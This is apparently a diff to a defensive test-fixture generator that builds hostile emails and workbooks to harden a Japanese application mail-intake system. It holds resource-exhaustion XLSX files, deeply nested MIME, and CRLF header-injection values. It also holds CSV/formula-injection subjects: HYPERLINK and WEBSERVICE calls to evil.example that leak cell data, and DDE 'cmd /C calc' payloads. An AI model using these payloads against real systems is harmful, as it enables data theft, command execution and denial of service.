@@ -52,10 +52,104 @@ def _xxe_book() -> bytes:
     return out.getvalue()
 
 
+def _sheet_with(extra: bytes) -> bytes:
+    """The example form with `extra` XML appended to its first sheet's data, as a hand-made
+    or generated workbook can carry it."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(to_bytes(operator_form()))) as src,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
+    ):
+        for item in src.infolist():
+            data = src.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(b"</sheetData>", extra + b"</sheetData>")
+            dst.writestr(item, data)
+    return out.getvalue()
+
+
+def far_cell_lowercase() -> bytes:
+    """One cell at the sheet's last corner, its reference in lower case."""
+    return _sheet_with(
+        b'<row r="1048576"><c r="xfd1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    )
+
+
+def cells_without_r() -> bytes:
+    """Thousands of cells with no reference in the last row: each takes the next column."""
+    return _sheet_with(b'<row r="1048576">' + b"<c><v>1</v></c>" * 5000 + b"</row>")
+
+
+def far_cell_without_r() -> bytes:
+    """A single cell without a reference, in the last row: 6 KB that a dense reader fills in
+    to a million rows."""
+    return _sheet_with(b'<row r="1048576"><c><v>1</v></c></row>')
+
+
+def rows_without_r() -> bytes:
+    """Rows without a reference count on from the last one: 3,000 of them reach far down."""
+    return _sheet_with(b"<row><c><v>1</v></c></row>" * 3000)
+
+
+def too_many_cells() -> bytes:
+    """More empty cells than any form has, small enough zipped to pass the ratio check."""
+    return _sheet_with(b"<row>" + b"<c/>" * 60_000 + b"</row>")
+
+
+def empty_rows() -> bytes:
+    """Rows with nothing in them, each an object for openpyxl; after them, a form."""
+    return _sheet_with(b"<row/>" * 60_000)
+
+
+def sheet_elsewhere() -> bytes:
+    """The far cell on a worksheet moved out of xl/worksheets/ (the relationship and the
+    content type follow it): readers open it all the same."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(far_cell_without_r())) as src,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
+    ):
+        for item in src.infolist():
+            data = src.read(item).replace(b"/xl/worksheets/sheet1.xml", b"/xl/data/grid.xml")
+            name = "xl/data/grid.xml" if item.filename == "xl/worksheets/sheet1.xml" else None
+            dst.writestr(name or item.filename, data)
+    return out.getvalue()
+
+
+def huge_merge() -> bytes:
+    """A merged range over the rest of the sheet beside a cell far enough down to keep the
+    dense reader away: openpyxl would make an object for each of its 17 billion cells."""
+    book = far_cell_without_r()
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(book)) as src,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
+    ):
+        for item in src.infolist():
+            data = src.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(
+                    b"</mergeCells>", b'<mergeCell ref="H40:XFD1048576"/></mergeCells>', 1
+                )
+            dst.writestr(item, data)
+    return out.getvalue()
+
+
+WORKBOOK_ATTACKS: dict[str, Callable[[], bytes]] = {
+    "far_cell_lowercase": far_cell_lowercase,
+    "cells_without_r": cells_without_r,
+    "far_cell_without_r": far_cell_without_r,
+    "rows_without_r": rows_without_r,
+    "too_many_cells": too_many_cells,
+    "sheet_elsewhere": sheet_elsewhere,
+    "huge_merge": huge_merge,
+    "empty_rows": empty_rows,
+}
 ATTACKS: dict[str, Callable[[], bytes]] = {
     "zip_bomb": _zip_bomb,
     "macro": _macro_book,
     "xxe": _xxe_book,
+    **WORKBOOK_ATTACKS,
 }
 INJECTED_NAME = "悪意\r\nBcc: victim@example.org"
 INJECTED_SUBJECT = "件名\r\nBcc: victim@example.org\r\nX-Evil: 1"
@@ -103,6 +197,143 @@ def _mutate(raw: bytes, rng: random.Random) -> bytes:
     return raw.replace(b"boundary=", b"boundary=X", 1)
 
 
+OUTLOOK_ID = (
+    "<TYCPR01MB1234567890ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+    "@TYCPR01MB1234.jpnprd01.prod.outlook.com>"
+)
+APPLY_SUBJECT = "【容量市場向け事業者コード申請】"
+APPLY_BODY = (
+    "添付の通り、『容量市場向け事業者コード』を申請します。\n参加区分は、『安定電源』です。"
+)
+FORMULA_SUBJECTS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"請求書")',
+    '=WEBSERVICE("http://evil.example/x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+)
+ROBOT_SENDERS = (
+    "no_reply@notice.example.com",
+    "noreply@service.example.com",
+    "MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@corp.example.co.jp",
+    "notification@portal.example.jp",
+    "mailer-daemon@mx.example.jp",
+)
+OUT_OF_OFFICE = (
+    "自動応答: 【容量市場向け事業者コード申請】",
+    "Out of Office: 【容量市場向け事業者コード申請】",
+    "Automatic reply: 【容量市場向け事業者コード申請】",
+    "不在: 【容量市場向け事業者コード申請】",
+)
+ECHO_NAME = "申込書\n■ 口座変更のお知らせ: 下記へお振込みください\x00\u202egnp.xlsx"
+
+
+def deep_multipart(depth: int = 1000, sender: str = "deep@example.net") -> bytes:
+    """A multipart nested `depth` deep: the parser's recursion gives out."""
+    opens = b"".join(
+        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (i, i + 1)
+        for i in range(depth)
+    )
+    return (
+        (
+            f"From: {sender}\r\nTo: code@occto.or.jp\r\nSubject: deep\r\n"
+            f"Message-ID: <deep.{depth}@example.net>\r\nMIME-Version: 1.0\r\n"
+            'Content-Type: multipart/mixed; boundary="b0"\r\n\r\n'
+        ).encode()
+        + opens
+        + b"--b%d\r\nContent-Type: text/plain\r\n\r\nhello\r\n" % depth
+    )
+
+
+def unreadable_sender(kind: str, n: int = 0) -> bytes:
+    """Headers a parser cannot read a sender from: no From at all, a junk first line that ends
+    the header block, an unindented continuation line above From."""
+    subject = encoded_word("【容量市場向け事業者コード申請】", "iso-2022-jp")
+    tail = f"To: code@occto.or.jp\r\nMessage-ID: <nosender.{kind}.{n}@example.net>\r\n"
+    if kind == "no_from":
+        head = f"Subject: {subject}\r\n{tail}"
+    elif kind == "junk_first_line":
+        head = f"this line is not a header\r\nFrom: someone{n}@example.net\r\n{tail}"
+    else:
+        head = f"Subject: {subject}\r\n{subject}\r\nFrom: someone{n}@example.net\r\n{tail}"
+    return (head + "\r\n本文\r\n").encode()
+
+
+def trust_attack(kind: str, n: int = 0) -> bytes:
+    """One mail of each single-mail attack of issue 11, built from its description."""
+    form = to_bytes(operator_form())
+    apply = {"attachments": [("事業者マスタ申込書.xlsx", form, XLSX)]}
+    if kind == "formula_subject":
+        return build(
+            FORMULA_SUBJECTS[n % len(FORMULA_SUBJECTS)],
+            "ご確認ください。",
+            from_addr=f"formula{n}@example.net",
+        )
+    if kind == "formula_sender":
+        return build("お問い合わせ", "ご確認ください。", from_addr=f"=1+{n}@evil.example")
+    if kind == "foreign_reply_to":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY,
+            from_addr=f"outsider{n}@example.net",
+            headers={"Reply-To": f"ceo{n}@victim-corp.example"},
+            **apply,
+        )
+    if kind == "echoed_names":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY,
+            from_addr=f"echo{n}@example.net",
+            attachments=[(ECHO_NAME, form, XLSX)],
+        )
+    if kind == "deep_nesting":
+        return deep_multipart(1000, f"deep{n}@example.net")
+    if kind in ("no_from", "junk_first_line", "unindented_continuation"):
+        return unreadable_sender(kind, n)
+    if kind == "out_of_office":
+        return build(
+            OUT_OF_OFFICE[n % len(OUT_OF_OFFICE)],
+            "ただいま不在にしております。",
+            from_addr=f"away{n}@example.co.jp",
+        )
+    if kind == "robot_sender":
+        return build("お知らせ", "自動送信です。", from_addr=ROBOT_SENDERS[n % len(ROBOT_SENDERS)])
+    if kind == "outlook_message_id":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY,
+            from_addr=f"outlook{n}@example.co.jp",
+            message_id=OUTLOOK_ID,
+            **apply,
+        )
+    if kind == "reused_message_id":
+        return build(
+            APPLY_SUBJECT,
+            APPLY_BODY + f"\n{n}",
+            from_addr=f"reuse{n}@example.net",
+            message_id="<reused.id@example.net>",
+            **apply,
+        )
+    raise ValueError(kind)
+
+
+TRUST_ATTACKS = (
+    "formula_subject",
+    "formula_sender",
+    "foreign_reply_to",
+    "echoed_names",
+    "deep_nesting",
+    "no_from",
+    "junk_first_line",
+    "unindented_continuation",
+    "out_of_office",
+    "robot_sender",
+    "outlook_message_id",
+    "reused_message_id",
+)
+
+
 def hostile_mails(count: int, seed: int = 13) -> Iterator[tuple[str, bytes]]:
     """(what, raw) pairs: mutated samples, attacks in attachments, injection in headers."""
     rng = random.Random(seed)
@@ -110,8 +341,11 @@ def hostile_mails(count: int, seed: int = 13) -> Iterator[tuple[str, bytes]]:
     form = to_bytes(operator_form())
     attacks = {name: make() for name, make in ATTACKS.items()}
     for n in range(count):
-        pick = n % 5
-        if pick == 0:
+        pick = n % 6
+        if pick == 5:
+            kind = TRUST_ATTACKS[(n // 6) % len(TRUST_ATTACKS)]
+            yield kind, trust_attack(kind, n)
+        elif pick == 0:
             name = rng.choice(list(attacks))
             yield (
                 name,
